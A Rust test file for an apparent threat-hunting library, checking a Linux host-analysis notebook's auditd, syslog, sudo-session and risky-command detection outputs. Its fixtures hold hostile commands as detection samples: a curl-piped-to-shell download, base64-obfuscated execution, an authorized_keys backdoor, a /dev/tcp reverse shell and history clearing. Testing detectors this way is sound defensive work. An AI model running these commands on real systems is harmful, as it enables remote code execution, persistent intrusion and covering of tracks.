//! The code of `notebooks/linux-host.ipynb`, cell by cell, with the values
//! the notebook shows checked.

use huntbook::prelude::*;

const LOG: &str = "<86>Jul 10 15:13:25 web01 sudo[4242]: pam_unix(sudo:session): session opened for user root by bob(uid=0)
<85>Jul 10 15:13:25 web01 sudo[4242]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/curl -s http://198.51.100.7/i.sh | sh
Jul 10 15:14:02 web01 sshd[99]: Accepted publickey for bob from 10.0.0.5 port 5555 ssh2
<165>1 2019-07-10T15:15:00.003Z web01 backup - ID47 [meta@32473 job=\"nightly\"] backup started
<86>Jul 10 15:20:00 web01 sudo[4242]: pam_unix(sudo:session): session closed for user root
";

#[test]
fn notebook_cells_run() -> Result<(), Box<dyn std::error::Error>> {
    let nb = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/notebooks/linux-host.ipynb"
    ))?;
    assert!(nb.contains("read_auditd(hb.data_path(\\\"msticpy/testdata/auditd_log.txt\\\")?)?"));

    let hb = Huntbook::new()?;
    let audit = read_auditd(hb.data_path("msticpy/testdata/auditd_log.txt")?)?;
    assert!(
        audit
            .clone()
            .to_html()
            .contains("938 audit events from 1708 records")
    );

    let procs = audit.process_events()?;
    let shown = procs
        .select([
            "TimeGenerated",
            "pid",
            "ppid",
            "uid",
            "auid",
            "exe",
            "cmdline",
        ])?
        .tail(Some(8));
    assert_eq!(shown.height(), 8);

    let tree = ProcessTree::build(&procs)?;
    assert!(ProcessTreeView::new(&tree).to_html().contains("iptables"));

    let la = auditd_from_frame(
        &read_csv(hb.data_path("msticpy/testdata/linux_events.csv")?)?,
        "AuditdMessage",
    )?;
    let s = la.process_tree()?.summary().to_df()?;
    assert_eq!(s.column("LargestTreeDepth")?.u64()?.get(0), Some(5));

    let bad = parse_auditd(
        "junk\ntype=LOGIN msg=audit(1551485418.600:33): pid=16 uid=0 old-auid=4294967295 auid=0 ses=238 res=1\ntype=X msg=audit(oops): a=b",
    )?;
    assert_eq!(bad.malformed_df()?.height(), 2);

    let sys = SyslogParser::new().year(2019).parse_str(LOG)?;
    assert_eq!((sys.df().height(), sys.malformed_count()), (5, 0));

    let sudo = read_csv(hb.data_path("msticpy/testdata/sudo_session_test.csv")?)?;
    let sessions = logon_sessions(&sudo)?;
    assert_eq!(sessions.df().height(), 5);

    let risky = RiskyCommands::new().detect(&sudo, "Command")?;
    assert_eq!(risky.df().height(), 1);

    let cmds = df!("Command" => [
        "bash -c \"$(echo ZWNobyBZM1Z5YkNCb2RIUndPaTh2TWpBekxqQXVNVEV6TGprdmVDQjhJR0poYzJnPSB8IGJhc2U2NCAtZCB8IHNo | base64 --decode)\"",
        "echo ssh-ed25519 AAAAC3Nza... >> /root/.ssh/authorized_keys",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "history -c",
    ])?;
    let found = RiskyCommands::new().detect(&cmds, "Command")?;
    let rules: Vec<&str> = found.df().column("Rule")?.str()?.iter().flatten().collect();
    assert_eq!(
        rules,
        [
            "base64_decoded_execution",
            "download_piped_to_shell",
            "authorized_keys_modified",
            "reverse_shell_dev_tcp",
            "history_cleared"
        ]
    );

    let bursts = command_bursts(&sudo, "Command", "TimeGenerated", 60.0, 2)?;
    let out = risky_sudo_sessions(sessions.df(), Some(risky.df()), Some(&bursts))?;
    assert_eq!(out.height(), 4);

    let host = host_record(
        &read_csv(hb.data_path("msticpy/testdata/syslog_data.csv")?)?,
        Some(&read_csv(hb.data_path("msticpy/testdata/host_hb.csv")?)?),
        Some(&read_csv(hb.data_path("msticpy/testdata/az_net.csv")?)?),
    )?;
    assert!(host.to_html().contains("Ubuntu"));
    Ok(())
}
